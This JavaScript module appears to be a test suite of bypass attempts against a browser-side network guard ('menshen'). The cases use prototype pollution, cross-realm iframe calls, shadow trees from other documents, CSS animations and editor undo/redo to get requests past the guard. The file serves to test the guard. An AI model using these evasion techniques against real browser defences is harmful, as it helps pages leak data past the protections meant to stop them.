// What a third attacker found: lists that go on in the prototypes of objects, trees of other documents, calls of one realm on another's documents.
import { helpers as hunt } from './hunt.mjs';
const { stand, drawn, sheet, id, xml, parsed, busy, svg, send, within, bare, sent, end, named } = hunt;
/** The window of a fresh frame. */
const inner = () => { const n = length; document.body.append(document.createElement('iframe')); return window[n]; };

export const helpers = { stand, drawn, sheet, id, xml, parsed, busy, svg, send, within, inner, bare, sent, end, named };
export default [
  // Lists that go on.
  ...[0, 3].map(n => [`O1 fetch while objects have a place ${n}`, `at => { const say = of => typeof of === 'string' ? at('/x') : '/own'; within(Object.prototype, ${n}, { value: new Proxy({}, { get: () => say }), writable: true }, () => fetch({ toString: () => self.menshen ? '/own' : at('/x') }, { mode: 'no-cors' }).catch(() => 0)); }`]),
  ['O10 style by a realm that objects have', at => {
    let got;
    for (let i = 0; i < 14; i++) stand('iframe');
    const e = drawn(stand('div')), n = length + 1, fake = { CSSStyleDeclaration: { prototype: { getPropertyValue(_) { got = this; } } } };
    within(Object.prototype, n, { value: fake, writable: true }, () => { try { stand('iframe'); } catch { /* the guard's own */ } });
    fake.CSSStyleDeclaration.prototype.getPropertyValue.call(e.style, 'x');
    got.backgroundImage = 'url("' + at('/x.gif') + '")';
  }, { alone: true }],
  ['O9 an image while texts go on', at => { const i = parsed('<img src="' + at('/x.gif') + '">').images[0]; within(Object.prototype, 5, { value: ':', writable: true }, () => document.body.append(i)); }, { alone: true }],
  ['O9 an image of a set before whose text there is more', at => { within(Object.prototype, -1, { value: '"', writable: true }, () => { new Image().srcset = '//' + location.host + '"@' + bare(at('/x.gif')).slice(2); }); }, { alone: true }],
  ['S5 an image written in pieces while lists go on', at => { document.open(); within(Object.prototype, 0, { value: 1, writable: true }, () => { document.write('<img src="' + at('/x.gif')); document.write('">'); }); busy(); document.close(); }, { alone: true }],
  ['O10 keyframes that go on', at => { const e = drawn(stand('div')), evil = { backgroundImage: 'url("' + at('/x.gif') + '")' }; if (!self.menshen) e.animate([evil, evil], 1e5); else within(Object.prototype, 2, { value: evil, writable: true }, () => { e.animate([{ backgroundImage: 'none' }, { backgroundImage: 'none' }], 1e5).currentTime = 99999; }); drawn(e); }, { alone: true }],
  ['S15 a document of a blob that goes on', at => { const f = document.createElement('iframe'), evil = '<img src="' + at('/x.gif') + '">', blob = text => URL.createObjectURL(new Blob([text], { type: 'text/html' })); if (self.menshen) { const own = blob('<p>x'); within(Object.prototype, 1, { value: evil, writable: true }, () => { f.src = own; }); } else f.src = blob(evil); document.body.append(f); }, { alone: true, ms: 2500 }],
  ['O1 fetch by a list that a place was asked of', at => { let got; for (const n of [0, 3]) within(Object.prototype, n, { get() { if (Array.isArray(this) && this.length === n && this[0] && /function/.test(Object.values(this[0]).map(one => typeof one).join())) got = this; return undefined; } }, () => fetch({ toString: () => '/own' }).catch(() => 0)); if (got) for (const one of got) for (const key in one) one[key] = value => typeof value === 'string' ? at('/x') : '/own'; fetch({ toString: () => self.menshen ? '/own' : at('/x') }, { mode: 'no-cors' }).catch(() => 0); }, { alone: true }],
  ['O10 keyframes whose place a page fills', at => { const e = drawn(stand('div')), evil = { backgroundImage: 'url("' + at('/x.gif') + '")' }; if (!self.menshen) e.animate([evil, evil], 1e5); else within(Object.prototype, 0, { get() { return undefined; }, set(value) { Object.defineProperty(this, 0, { value: Array.isArray(this) && value && typeof value === 'object' ? evil : value, writable: true, enumerable: true, configurable: true }); } }, () => e.animate([{ backgroundImage: 'none' }, { backgroundImage: 'none' }], 1e5)); drawn(e); }, { alone: true }],
  ['O10 a made sheet whose options a page fills', at => { const evil = { baseURL: at('/').replace(/\?.*/, '') }, name = id(); let s; drawn(stand('div', { id: name })); if (!self.menshen) s = new CSSStyleSheet(evil); else within(Object.prototype, 0, { get() { return undefined; }, set(value) { Object.defineProperty(this, 0, { value: Array.isArray(this) ? evil : value, writable: true, enumerable: true, configurable: true }); } }, () => { s = new CSSStyleSheet(); }); s.replaceSync('#' + name + '{background:url("x.gif' + at('/x.gif').replace(/^[^?]*/, '') + '")}'); document.adoptedStyleSheets = [...document.adoptedStyleSheets, s]; }, { alone: true }],
  // What the guard's own objects have not, they are asked for through the prototype of objects.
  ['O1 what the guard reads of its own', at => {
    const found = new Set(), letters = [...'abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ$_'], names = letters.flatMap(a => [a, ...letters.map(b => a + b)]).filter(name => !(name in Object.prototype));
    for (const name of names) Object.defineProperty(Object.prototype, name, { configurable: true, get() { found.add(this); return undefined; }, set(value) { Object.defineProperty(this, name, { value, writable: true, enumerable: true, configurable: true }); } });
    try { stand('iframe'); document.body.animate([{ color: 'red' }], 1); drawn(stand('div')).style.color = 'red'; } finally { for (const name of names) delete Object.prototype[name]; }
    if (!self.menshen) send(window, at('/x'));
    for (const one of found) for (const name of typeof one === 'object' ? Object.keys(one) : []) if (typeof one[name] === 'function' && /fetch/.test(one[name].name)) one[name](at('/x'), { mode: 'no-cors' });
  }, { alone: true }],
  ['O10 style by what the guard has not found', at => {
    let got;
    const s = drawn(stand('div')).style, letters = [...'abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ$_'], names = letters.flatMap(a => [a, ...letters.map(b => a + b)]).filter(name => !(name in Object.prototype));
    const own = { get: () => true, set() { if (this !== own) got = this; } };
    for (const name of names) Object.defineProperty(Object.prototype, name, { configurable: true, get() { return this && (this === window || typeof this === 'function') ? undefined : own; }, set(value) { Object.defineProperty(this, name, { value, writable: true, enumerable: true, configurable: true }); } });
    try { s.zqzq = 'x'; s.zqzq; } catch { /* the guard's own */ } finally { for (const name of names) delete Object.prototype[name]; }
    (got || (self.menshen ? {} : s)).backgroundImage = 'url("' + at('/x.gif') + '")';
  }, { alone: true }],
  ['O10 style by defineProperty while objects have a value', at => { const s = drawn(stand('div')).style; if (!self.menshen) s.backgroundImage = 'url("' + at('/x.gif') + '")'; within(Object.prototype, 'value', { value: 'url("' + at('/x.gif') + '")', writable: true }, () => Object.defineProperty(s, 'backgroundImage', { __proto__: null, enumerable: true, writable: true, configurable: true })); }, { alone: true }],
  // One realm's members on another's documents.
  ['realm a frame in a frame by an element of ours', at => { const w = inner(), d = document.createElement('div'); w.document.body.append(d); d.append(document.createElement('iframe')); send(w[0], at('/x')); }],
  ['realm a frame in a frame by a method of ours', at => { const w = inner(); Node.prototype.appendChild.call(w.document.body, document.createElement('iframe')); send(w[0], at('/x')); }],
  ['realm a frame in a frame by markup in an element of ours', at => { const w = inner(), d = document.createElement('div'); w.document.body.append(d); d.innerHTML = '<iframe></iframe>'; send(w[0], at('/x')); }],
  ['realm a frame in a frame, written by a method of ours', at => { const w = inner(); document.write.call(w.document, '<iframe></iframe><script>window[0].' + sent(at('/x')) + end); w.document.close(); }],
  ['realm a frame in a frame by execCommand of ours', at => { const w = inner(), d = w.document; d.body.innerHTML = '<p contenteditable>x</p>'; w.focus(); d.body.firstChild.focus(); w.getSelection().selectAllChildren(d.body.firstChild); document.execCommand.call(d, 'insertHTML', false, '<iframe></iframe>'); send(w[0], at('/x')); }],
  // Style.
  ['O10 style by a setter of a prototype of its own', at => { const s = drawn(stand('div')).style; let got; Object.setPrototypeOf(s, { __proto__: Object.getPrototypeOf(s), set hand(_) { got = this; } }); s.hand = 'x'; got.backgroundImage = 'url("' + at('/x.gif') + '")'; }],
  ['O10 style by a getter of a prototype of its own', at => { const s = drawn(stand('div')).style; let got; Object.setPrototypeOf(s, { __proto__: Object.getPrototypeOf(s), get hand() { got = this; return 1; } }); s.hand; got.backgroundImage = 'url("' + at('/x.gif') + '")'; }],
  ['O10 insertRule into a rule', at => { const name = id(), s = sheet('#' + name + '{}'); drawn(stand('div', { id: name })); s.sheet.cssRules[0].insertRule('&{background:url("' + at('/x.gif') + '")}'); }],
  // Trees. In WebKit what an editor does again loads before anyone can look.
  ['O9 an image in a shadow tree of another document', at => { const d = parsed('<div></div><img src="' + at('/x.gif') + '">'), host = d.body.firstChild; host.attachShadow({ mode: 'closed' }).append(d.images[0]); document.body.append(host); }],
  ['O9 an image in a shadow tree of parseHTMLUnsafe', at => { const d = Document.parseHTMLUnsafe('<div><template shadowrootmode="closed"><img src="' + at('/x.gif') + '"></template></div>'); document.body.append(d.body.firstChild); }],
  ['S15 a srcdoc in a shadow tree of another document', at => { const d = parsed('<div></div><iframe srcdoc="' + xml('<script>' + sent(at('/x')) + end).replace(/"/g, '&quot;') + '"></iframe>'), host = d.body.firstChild; host.attachShadow({ mode: 'closed' }).append(d.querySelector('iframe')); document.body.append(host); }],
  ['O11 a sheet in a shadow tree of another document', at => { const d = parsed('<div></div><link rel="stylesheet" href="' + xml(at('/x.css')) + '">'), host = d.body.firstChild; host.attachShadow({ mode: 'closed' }).append(d.querySelector('link')); document.body.append(host); }],
  ['O9 an image that an editor does again', at => { const e = stand('div', { contenteditable: 'true' }); e.append('x'); e.focus(); getSelection().selectAllChildren(e); document.execCommand('insertHTML', false, '<b>y</b>z'); const b = e.querySelector('b'); document.execCommand('undo'); const d = parsed('<img src="' + at('/x.gif') + '">'); d.body.append(b); b.append(d.images[0]); document.execCommand('redo'); }, { alone: true, open: 'redo' }],
  ['realm a frame in a frame whose window stops a load', at => { const w = inner(), d = document.createElement('div'); w.addEventListener('load', event => event.stopImmediatePropagation(), true); w.document.body.append(d); d.append(document.createElement('iframe')); send(w[0], at('/x')); }],
  ['O9 an image in the shadow of an image of another document', at => { const d = parsed('<div></div><i></i><img src="' + at('/x.gif') + '">'), host = d.body.firstChild, i = d.querySelector('i'); i.append(d.images[0]); host.attachShadow({ mode: 'closed' }).append(i); document.body.append(host); }],
  ['O9 an image in a shadow tree of parseHTML', at => { const d = Document.parseHTML('<div><template shadowrootmode="closed"><img src="' + at('/x.gif') + '"></template></div>', { sanitizer: new Sanitizer({}) }); document.body.append(d.body.firstChild); }],
];
